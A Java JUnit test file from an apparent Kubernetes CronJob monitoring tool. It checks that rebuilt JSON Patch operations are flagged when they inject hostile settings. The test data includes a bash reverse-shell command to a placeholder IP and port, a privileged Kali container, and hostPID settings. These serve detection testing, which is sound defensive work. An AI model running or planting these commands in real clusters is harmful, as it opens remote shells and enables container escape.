package dev.cronsentinel.ingest;

import static dev.cronsentinel.ingest.AuditDecoderTest.CJ_REF;
import static dev.cronsentinel.ingest.AuditDecoderTest.event;
import static dev.cronsentinel.testing.TestData.decode;
import static org.assertj.core.api.Assertions.assertThat;

import dev.cronsentinel.model.ContainerSpec;
import dev.cronsentinel.model.DeadLetter;
import dev.cronsentinel.model.EventRole;
import dev.cronsentinel.model.UndecodableEvent;
import dev.cronsentinel.model.WorkloadEvent;
import dev.cronsentinel.testing.TestData;
import org.junit.jupiter.api.Test;

/**
 * Issue 16, row 5: without a stored object, a JSON Patch is rebuilt by applying every RFC 6902 op (add,
 * remove, replace, move, copy, test, the root path) to an empty object, and what cannot be rebuilt (a source
 * in the unseen original, an op past the budget) raises a finding instead of being skipped.
 */
class JsonPatchRebuildTest {
    private static final String SPEC = "/spec/jobTemplate/spec/template/spec";
    private static final String SHELL = "bash -i >& /dev/tcp/203.0.113.50/4242 0>&1";

    private static TestData.Decoded patch(String ops) {
        return decode(event("patch", CJ_REF, "\"requestObject\":[" + ops + "]"));
    }

    private static WorkloadEvent single(TestData.Decoded d) {
        assertThat(d.deadLetters).as("dead letters").isEmpty();
        assertThat(d.events).hasSize(1);
        return d.events.get(0);
    }

    private static boolean alertable(WorkloadEvent e) {
        return TestData.defaultScorer().score(e, EventRole.WORKLOAD).alertable();
    }

    private static ContainerSpec container(WorkloadEvent e) {
        return e.templates().get(0).containers().get(0);
    }

    @Test
    void moveAndCopyWriteWhatTheirSourceHeld() {
        String stash = "{\"op\":\"add\",\"path\":\"/metadata/annotations\",\"value\":{\"note\":\"" + SHELL + "\"}},"
                + "{\"op\":\"add\",\"path\":\"" + SPEC + "/containers\",\"value\":[{\"name\":\"a\",\"image\":\"busybox\",\"command\":[\"sh\",\"-c\",\"true\"]}]},";
        WorkloadEvent moved = single(patch(stash + "{\"op\":\"move\",\"from\":\"/metadata/annotations/note\",\"path\":\"" + SPEC + "/containers/0/command/2\"}"));
        assertThat(container(moved).command()).containsExactly("sh", "-c", SHELL, "true");
        assertThat(alertable(moved)).isTrue();

        WorkloadEvent copied = single(patch(stash + "{\"op\":\"copy\",\"from\":\"/metadata/annotations/note\",\"path\":\"" + SPEC + "/containers/0/command/-\"},"
                + "{\"op\":\"test\",\"path\":\"/metadata/annotations/note\",\"value\":\"x\"}"));
        assertThat(container(copied).command()).containsExactly("sh", "-c", "true", SHELL);
        assertThat(alertable(copied)).isTrue();
    }

    @Test
    void aCopyOfAWholeContainerAndAMoveOfAList() {
        String ops = "{\"op\":\"add\",\"path\":\"/spec/x\",\"value\":{\"name\":\"b\",\"image\":\"kalilinux/kali-rolling\",\"securityContext\":{\"privileged\":true}}},"
                + "{\"op\":\"add\",\"path\":\"" + SPEC + "/containers\",\"value\":[]},"
                + "{\"op\":\"copy\",\"from\":\"/spec/x\",\"path\":\"" + SPEC + "/containers/-\"},"
                + "{\"op\":\"add\",\"path\":\"/spec/y\",\"value\":[\"sh\",\"-c\",\"" + SHELL + "\"]},"
                + "{\"op\":\"move\",\"from\":\"/spec/y\",\"path\":\"" + SPEC + "/initContainers/0/command\"}";
        WorkloadEvent e = single(patch(ops));
        assertThat(e.templates().get(0).containers()).extracting(ContainerSpec::image, ContainerSpec::privileged)
                .contains(org.assertj.core.groups.Tuple.tuple("kalilinux/kali-rolling", true));
        assertThat(e.templates().get(0).containers()).flatExtracting(ContainerSpec::command).contains(SHELL);
        assertThat(alertable(e)).isTrue();
    }

    @Test
    void aReplaceAtTheRootPathPutsAWholeObject() {
        String whole = "{\"kind\":\"CronJob\",\"spec\":{\"schedule\":\"* * * * *\",\"jobTemplate\":{\"spec\":{\"template\":{\"spec\":"
                + "{\"hostPID\":true,\"containers\":[{\"name\":\"a\",\"image\":\"alpine\",\"command\":[\"sh\",\"-c\",\"" + SHELL + "\"]}]}}}}}}";
        for (String op : new String[] {"replace", "add"}) {
            WorkloadEvent e = single(patch("{\"op\":\"add\",\"path\":\"/spec/suspend\",\"value\":true},{\"op\":\"" + op + "\",\"path\":\"\",\"value\":" + whole + "}"));
            assertThat(e.templates().get(0).hostPID()).isTrue();
            assertThat(alertable(e)).as(op).isTrue();
        }
        // remove "" empties the document: what was added before is gone.
        WorkloadEvent emptied = single(patch("{\"op\":\"add\",\"path\":\"" + SPEC + "/hostNetwork\",\"value\":true},{\"op\":\"remove\",\"path\":\"\"}"));
        assertThat(emptied.templates()).isEmpty();
    }

    @Test
    void aWronglyTypedValueLaterRemovedIsNotAnError() {
        // The API server applies the whole patch before it decodes the result: the 5 never reaches a typed field.
        String ops = "{\"op\":\"add\",\"path\":\"" + SPEC + "/containers\",\"value\":[{\"name\":\"a\",\"image\":\"alpine\",\"command\":5}]},"
                + "{\"op\":\"remove\",\"path\":\"" + SPEC + "/containers/0/command\"},"
                + "{\"op\":\"add\",\"path\":\"" + SPEC + "/containers/0/command\",\"value\":[\"sh\",\"-c\",\"" + SHELL + "\"]}";
        WorkloadEvent e = single(patch(ops));
        assertThat(container(e).command()).containsExactly("sh", "-c", SHELL);
        assertThat(alertable(e)).isTrue();
        // A replace of the wrong value works the same way.
        String replaced = ops.replace("{\"op\":\"remove\",\"path\":\"" + SPEC + "/containers/0/command\"},", "")
                .replace("\"op\":\"add\",\"path\":\"" + SPEC + "/containers/0/command\"", "\"op\":\"replace\",\"path\":\"" + SPEC + "/containers/0/command\"");
        assertThat(container(single(patch(replaced))).command()).containsExactly("sh", "-c", SHELL);
    }

    @Test
    void aSourceInTheUnseenOriginalIsAFinding() {
        TestData.Decoded d = patch("{\"op\":\"copy\",\"from\":\"/spec/jobTemplate/spec/template/spec/containers/1/command\","
                + "\"path\":\"" + SPEC + "/containers/0/command\"}");
        single(d);
        assertThat(d.undecodable).extracting(UndecodableEvent::reason).containsExactly(JsonPatchRebuild.UNKNOWN_SOURCE);
        assertThat(d.undecodable.get(0).name()).isEqualTo("cj");
    }

    @Test
    void anOpPastTheBudgetIsAFindingNotASilentSkip() {
        // A valid add far into a new array spends the growth budget on padding; the real replace comes after it.
        String ops = "{\"op\":\"add\",\"path\":\"/spec/x/" + (JsonPatchRebuild.MAX_GROWTH - 2) + "\",\"value\":1},"
                + "{\"op\":\"replace\",\"path\":\"" + SPEC + "/containers/0/command\",\"value\":[\"sh\",\"-c\",\"" + SHELL + "\"]}";
        TestData.Decoded d = patch(ops);
        single(d);
        assertThat(d.undecodable).extracting(UndecodableEvent::reason).containsExactly(JsonPatchRebuild.OVER_BUDGET);
        // Repeated copies of one large subtree are bounded by the same budget.
        StringBuilder copies = new StringBuilder("{\"op\":\"add\",\"path\":\"/spec/big\",\"value\":[" + "0,".repeat(999) + "0]}");
        for (int i = 0; i < 20; i++) {
            copies.append(",{\"op\":\"copy\",\"from\":\"/spec/big\",\"path\":\"/spec/c").append(i).append("\"}");
        }
        TestData.Decoded c = patch(copies.toString());
        single(c);
        assertThat(c.undecodable).extracting(UndecodableEvent::reason).containsExactly(JsonPatchRebuild.OVER_BUDGET);
    }

    @Test
    void anOpRfc6902DoesNotDefineIsRefusedAsTheApiServerRefusesIt() {
        TestData.Decoded d = patch("{\"op\":\"append\",\"path\":\"" + SPEC + "/hostPID\",\"value\":true}");
        assertThat(d.deadLetters).extracting(DeadLetter::reason).containsExactly("wrong-type");
        assertThat(d.undecodable).extracting(UndecodableEvent::reason).containsExactly("wrong-type");
    }
}
